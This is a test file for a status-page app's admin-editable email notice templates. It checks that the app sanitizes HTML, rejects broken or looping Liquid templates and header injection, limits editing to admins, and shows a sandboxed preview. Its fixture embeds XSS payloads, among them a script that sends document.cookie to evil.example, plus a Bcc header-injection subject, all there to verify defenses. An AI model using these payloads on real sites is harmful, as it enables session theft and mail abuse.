// Notice templates as an admin uses them: the edited notice is what subscribers receive (in
// the outbox, without RESEND_API_KEY), the admin's HTML arrives sanitized, a broken, looping
// or megabyte template is refused with liquid's reason and the part named, and a reset puts
// the shipped notice back. The admin page previews with real data in a sandboxed frame.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { api, databases, startApp, type Api, type TestApp } from "../setup/app-server.ts";
import { publishNotifyingUpdate } from "../setup/delivery-helpers.ts";
import { postForOutcome } from "./form-outcome-client.ts";
import { signInAs } from "./people.ts";

const delay = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

type OutboxRow = { to: string; subject: string; text: string; html: string };

const EDITED = {
  subject: "{{ page_name }} NOTICE ⚑ {{ title }} ({{ status }})",
  text: "Edited notice: {{ title }}\n{{ body }}\nStop these: {{ unsubscribe_url }}",
  html:
    '<div style="position:fixed;top:0;color:#0f172a"><h1 onclick="steal()">Edited: {{ title }}</h1><p>{{ body }}</p>' +
    '<script>fetch("https://evil.example/?c="+document.cookie)</script><img src="x" onerror="alert(1)">' +
    '<a href="javascript:alert(1)">click</a> <a href="data:text/html,<script>alert(1)</script>">data</a>' +
    '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="p"></form>' +
    '<svg onload="alert(1)"></svg><a href="{{ unsubscribe_url }}">Unsubscribe</a></div>',
};

describe.each(databases())("notice templates on %s", (database) => {
  let app: TestApp;
  const readers = ["notice-reader-1@example.com", "notice-reader-2@example.com"];

  const outboxFor = (subjectPart: string) =>
    app.db.rows<OutboxRow>(
      `SELECT "to", "subject", "text", "html" FROM "OutboxEmail" WHERE "subject" LIKE ? ORDER BY "to"`,
      `%${subjectPart}%`,
    );
  async function waitForNotices(subjectPart: string, count: number): Promise<OutboxRow[]> {
    const deadline = Date.now() + 15_000;
    for (;;) {
      const rows = await outboxFor(subjectPart);
      if (rows.length >= count) return rows;
      if (Date.now() > deadline) throw new Error(`${rows.length} of ${count} notices about "${subjectPart}" in the outbox\n${app.logs()}`);
      await delay(200);
    }
  }
  const tokenOf = async (email: string) =>
    (await app.db.rows<{ token: string }>(`SELECT "token" FROM "Subscriber" WHERE "email" = ?`, email))[0].token;

  beforeAll(async () => {
    app = await startApp({ database });
    for (const email of readers) {
      const added = await app.api.post("/api/v1/subscribers", { email, confirmedAt: new Date(Date.now() - 60_000).toISOString() });
      expect(added.status, JSON.stringify(added.body)).toBe(201);
    }
  });
  afterAll(() => app?.stop());

  it("lists every notice kind, the root-cause report among them, each part the shipped default", async () => {
    const listed = await app.api.get("/api/v1/notice-templates");
    expect(listed.status).toBe(200);
    const kinds = listed.body.templates.map((t: { kind: string }) => t.kind);
    expect(kinds).toEqual(
      expect.arrayContaining([
        "incident.created",
        "incident.updated",
        "incident.resolved",
        "maintenance.scheduled",
        "maintenance.started",
        "maintenance.completed",
        "postmortem.published",
      ]),
    );
    for (const t of listed.body.templates) expect(t.isDefault, t.kind).toBe(true);
  });

  it("sends subscribers the admin's edited notice, its HTML sanitized", async () => {
    const saved = await api(app.baseUrl, app.adminToken).raw("PUT", "/api/v1/notice-templates/incident.created", JSON.stringify(EDITED), {
      "content-type": "application/json",
    });
    expect(saved.status, JSON.stringify(saved.body)).toBe(200);
    expect(saved.body.template).toMatchObject({
      kind: "incident.created",
      isDefault: false,
      parts: { html: { source: EDITED.html, isDefault: false } },
    });
    expect(await app.db.count("AuditEvent", `"action" = 'template.saved' AND "entityId" = 'notice.incident.created'`)).toBe(1);

    const { title } = await publishNotifyingUpdate(app.api, `Edited notice check ${database}`);
    const notices = await waitForNotices("NOTICE ⚑", readers.length);
    expect(notices.map((n) => n.to)).toEqual(readers);
    for (const notice of notices) {
      const unsubscribe = `/status/subscriptions/${await tokenOf(notice.to)}/unsubscribe`;
      expect(notice.subject).toMatch(new RegExp(`NOTICE ⚑ ${title} \\(Investigating\\)$`));
      expect(notice.text).toContain(`Edited notice: ${title}`);
      expect(notice.text).toContain(unsubscribe);
      expect(notice.html).toContain(`<h1>Edited: ${title}</h1>`);
      expect(notice.html).toContain(`We are looking into ${title}.`);
      expect(notice.html).toMatch(new RegExp(`<a href="[^"]*${unsubscribe}">Unsubscribe</a>`));
      expect(notice.html).toContain('<div style="color:#0f172a">');
      expect(notice.html).not.toMatch(/<script|<iframe|<form|<input|<svg|<img|onerror|onclick|onload|javascript:|data:|position:/i);
    }
  });

  it("refuses a broken, looping or megabyte template with 422, the part named and liquid's reason, keeping the saved one", async () => {
    const put = (kind: string, body: unknown) =>
      app.api.raw("PUT", `/api/v1/notice-templates/${kind}`, JSON.stringify(body), { "content-type": "application/json" });
    const cases: [Record<string, string>, string, RegExp][] = [
      [{ html: "<p>{% if title %}open</p>" }, "html", /^HTML: The template does not parse: tag \{% if title %\} not closed/],
      [{ text: "{{ incident_titel }}" }, "text", /^Plain text: .*undefined variable: incident_titel/],
      [{ subject: "Outage\nBcc: everyone@example.com" }, "subject", /^Subject: A subject must be one line\.$/],
      [{ text: "{% for i in (1..100000000) %}{% for j in (1..10) %}{{ i }}{% endfor %}{% endfor %}" }, "text", /^Plain text: /],
      [{ html: "{% for i in (1..200000) %}<p>{{ body }}</p>{% endfor %}" }, "html", /^HTML: /],
    ];
    for (const [body, part, reason] of cases) {
      const refused = await put("incident.created", body);
      expect(refused.status, JSON.stringify(refused.body)).toBe(422);
      expect(refused.body.error.code).toBe("invalid");
      expect(refused.body.error.fields[part], JSON.stringify(refused.body)).toMatch(reason);
    }
    expect((await put("no.such-kind", { subject: "x" })).status).toBe(404);
    expect((await put("incident.created", { subject: "x", footer: "y" })).status).toBe(422);
    const stored = await app.api.get("/api/v1/notice-templates/incident.created");
    expect(stored.body.template.parts.html.source).toBe(EDITED.html);
  });

  it("lets only admins change notices", async () => {
    const created = await app.api.post("/api/v1/tokens", { name: "comms for notices", role: "comms" });
    const comms: Api = api(app.baseUrl, created.body.token);
    expect(
      (
        await comms.raw("PUT", "/api/v1/notice-templates/incident.created", JSON.stringify({ subject: "x" }), {
          "content-type": "application/json",
        })
      ).status,
    ).toBe(403);
    expect((await comms.delete("/api/v1/notice-templates/incident.created")).status).toBe(403);
  });

  it("previews on the admin page with the latest real update, the HTML in a sandboxed frame", async () => {
    const page = await fetch(`${app.baseUrl}/admin/notices?kind=incident.created`, {
      headers: { authorization: `Bearer ${app.adminToken}` },
    });
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(html).toContain(`Edited notice check ${database}`);
    expect(html).toMatch(/<iframe[^>]*sandbox=""[^>]*srcDoc="[^"]*Edited: Edited notice check/i);
    expect(html).toContain("/status/subscriptions/preview-subscriber/unsubscribe");
    expect(html).not.toMatch(/srcDoc="[^"]*&lt;script/i);
  });

  it("answers every button of the admin page's editor with one outcome: ok and the form (the button) that posted, done or refused", async () => {
    const cookie = await signInAs(app, "admin@northwind.example");
    const kind = "maintenance.completed";
    const post = (fields: Record<string, string>) => postForOutcome(app.baseUrl, cookie, "/admin/notices", { kind, ...fields });
    const parts = { subject: "Done: {{ title }}", text: "{{ body }}", html: "<p>{{ body }}</p>" };

    const preview = await post({ intent: "preview", ...parts });
    expect(preview.status).toBe(200);
    expect(preview.outcome).toMatchObject({ ok: true, form: "preview", kind, template: parts, preview: { subject: expect.any(String) } });
    const broken = { ...parts, html: "<p>{% if title %}open</p>" };
    const refused = await post({ intent: "save", ...broken });
    expect(refused.status).toBe(422);
    expect(refused.outcome).toEqual({
      ok: false,
      form: "save",
      kind,
      template: broken,
      errors: expect.objectContaining({ _: expect.any(String), html: expect.stringMatching(/^HTML: The template does not parse/) }),
    });
    expect(await post({ intent: "save", ...parts })).toMatchObject({
      status: 200,
      outcome: { ok: true, form: "save", kind, template: parts },
    });
    expect(await post({ intent: "publish", ...parts })).toMatchObject({
      status: 422,
      outcome: { ok: false, form: "publish", kind, errors: { intent: expect.any(String) } },
    });
    expect(await post({ intent: "reset" })).toMatchObject({ status: 200, outcome: { ok: true, form: "reset", kind } });
    expect(await app.db.count("Template", `"key" = ?`, `notice.${kind}`)).toBe(0);
  });

  it("puts the shipped notice back on reset", async () => {
    const reset = await app.api.delete("/api/v1/notice-templates/incident.created");
    expect(reset.status).toBe(200);
    expect(reset.body.template.isDefault).toBe(true);
    expect(await app.db.count("Template", `"key" LIKE 'notice.%'`)).toBe(0);
    const { title } = await publishNotifyingUpdate(app.api, `Default notice check ${database}`);
    const notices = await waitForNotices(title, readers.length);
    for (const notice of notices) {
      expect(notice.subject).toMatch(new RegExp(`^\\[.+\\] ${title}$`));
      expect(notice.html).toContain("Follow this incident on the status page");
    }
  });
});
